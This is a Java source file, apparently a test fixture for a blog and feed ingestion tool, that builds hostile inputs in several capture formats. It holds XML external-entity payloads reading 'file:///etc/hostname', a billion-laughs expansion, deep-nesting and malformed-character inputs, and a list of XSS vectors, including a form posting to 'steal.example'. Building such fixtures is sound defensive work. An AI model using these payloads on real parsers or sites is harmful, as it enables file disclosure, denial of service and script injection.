package dev.postbag.ingest;

import dev.postbag.ingest.capture.CaptureFormat;
import java.nio.charset.StandardCharsets;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** What is done to readers by those who mean harm, in whatever format a reader reads. */
public enum Attack {
    EXTERNAL_ENTITY("&x;", "<!DOCTYPE %s [<!ENTITY x SYSTEM '%s'><!ENTITY %% p SYSTEM '%s'> %%p;]>"),
    BILLION_LAUGHS("&l39;", laughs()),
    DEEP_NESTING("<div><ul><li><table><tr><td><b>", ""),
    QUOTATIONS("<blockquote>", ""),
    HALF_CHARACTERS("a&#xD800;b&#56832;c", ""),
    NULS("a\0b&#0;c", ""),
    BIDI_CONTROLS("<p>a\u202Eb\u2066c</p><p>d</p>", ""),
    HOSTILE_HTML("""
            <p onclick="steal()">Tide <a href="javascript:steal()">tables</a><img src="data:image/svg+xml,steal" \
            onerror="steal()"></p><script>steal()</script><style>p{background:url(//steal)}</style>\
            <iframe src="javascript:steal()"></iframe><svg onload="steal()"><a href="vbscript:steal()">x</a></svg>\
            <form action="https://steal.example"><input value="y"></form><base href="javascript:steal()//">\
            <math><mtext></p><img src=x onerror=steal()></mtext></math><a href=" jav&#x61;script:steal()">z</a>""", "");

    private static final int FEW = 40;

    private final String words;
    private final String doctype;

    Attack(String words, String doctype) {
        this.words = words;
        this.doctype = doctype;
    }

    private static String laughs() {
        return IntStream.range(1, FEW)
                .mapToObj(i -> "<!ENTITY l" + i + " '" + ("&l" + (i - 1) + ";").repeat(10) + "'>")
                .collect(Collectors.joining("", "<!DOCTYPE %s [<!ENTITY l0 'ha'>", "]>"));
    }

    /** Enough of it to be tried often. */
    public byte[] small(CaptureFormat format) {
        return times(FEW, format, "file:///etc/hostname");
    }

    /**
     * As much as somebody would send.
     *
     * @param secret what no entity may fetch
     */
    byte[] large(CaptureFormat format, String secret) {
        return times(10_000, format, secret);
    }

    private byte[] times(int nesting, CaptureFormat format, String secret) {
        boolean nests = this == DEEP_NESTING || this == QUOTATIONS;
        String all = nests ? nested(format).repeat(nesting) + "deep" : words;
        return in(format, all, doctype.formatted(root(format), secret, secret));
    }

    private String nested(CaptureFormat format) {
        return format == CaptureFormat.PLAIN_TEXT ? "This from the Lantern:-\n\n" : words;
    }

    /** A capture of that format that says this, marked up where the format has it. */
    static byte[] in(CaptureFormat format, String html) {
        return in(format, html, "");
    }

    private static byte[] in(CaptureFormat format, String html, String doctype) {
        String text = doctype + around(format).formatted(format == CaptureFormat.HTML ? html : written(format, html));
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        return format == CaptureFormat.BLOGGER_ZIP ? Seeds.zipped("feed.atom", bytes) : bytes;
    }

    private static String root(CaptureFormat format) {
        return switch (format) {
            case HTML -> "html";
            case FEED, WXR -> "rss";
            case BLOGGER, BLOGGER_ZIP -> "feed";
            case DISQUS -> "disqus";
            case PLAIN_TEXT, JSON_FEED, COMMENT_LINES -> "text";
        };
    }

    /** References stay as they are where XML has them, so that they reach the XML's own reader. */
    private static String written(CaptureFormat format, String html) {
        return switch (format) {
            case PLAIN_TEXT, HTML -> html;
            case FEED, WXR, BLOGGER, BLOGGER_ZIP, DISQUS ->
                html.replace("<", "&lt;").replace(">", "&gt;");
            case JSON_FEED, COMMENT_LINES ->
                html.replace("\\", "\\\\")
                        .replace("\"", "\\\"")
                        .replace("\n", "\\n")
                        .replace("\0", "\\u0000")
                        .replace("&#xD800;", "\\ud800")
                        .replace("&#56832;", "\\ude00");
        };
    }

    static String around(CaptureFormat format) {
        return switch (format) {
            case PLAIN_TEXT -> "Saturday, 23 August 2025\n\nA Title\n\n%s\n";
            case HTML ->
                "<html><body><article><h1>A Title</h1><time datetime='2025-08-23'>23 August 2025</time>%s</article></body></html>";
            case FEED ->
                "<rss version='2.0'><channel><title>L</title><item><title>A Title</title><pubDate>23 Aug 2025</pubDate>"
                        + "<description>%s</description></item></channel></rss>";
            case JSON_FEED ->
                "{\"version\":\"https://jsonfeed.org/version/1.1\",\"items\":[{\"id\":\"1\",\"title\":\"A Title\","
                        + "\"date_published\":\"2025-08-23T10:00:00Z\",\"content_html\":\"%s\"}]}";
            case WXR ->
                "<rss xmlns:wp='http://wordpress.org/export/1.2/' xmlns:content='http://purl.org/rss/1.0/modules/content/'>"
                        + "<channel><item><title>A Title</title><guid>g1</guid><content:encoded>%s</content:encoded>"
                        + "<wp:post_id>1</wp:post_id><wp:post_date>2025-08-23 10:00:00</wp:post_date>"
                        + "<wp:status>publish</wp:status><wp:post_type>post</wp:post_type></item></channel></rss>";
            case BLOGGER, BLOGGER_ZIP ->
                "<feed xmlns='http://www.w3.org/2005/Atom' xmlns:blogger='http://schemas.google.com/blogger/2018'>"
                        + "<entry><id>tag:blogger.com,1999:blog-1.post-2</id><blogger:type>POST</blogger:type>"
                        + "<blogger:status>LIVE</blogger:status><title>A Title</title><content type='html'>%s</content>"
                        + "<published>2025-08-23T10:00:00Z</published></entry></feed>";
            case DISQUS ->
                "<disqus xmlns='http://disqus.com' xmlns:dsq='http://disqus.com/disqus-internals'>"
                        + "<thread dsq:id='7'><link>https://lantern.example/a</link></thread>"
                        + "<post dsq:id='9'><message>%s</message><createdAt>2025-08-23T10:00:00Z</createdAt>"
                        + "<author><name>Oona</name></author><thread dsq:id='7'/></post></disqus>";
            case COMMENT_LINES ->
                "{\"type\":\"comment\",\"source\":\"s\",\"id\":\"1\",\"post\":\"https://lantern.example/a\",\"text\":\"%s\"}\n";
        };
    }
}
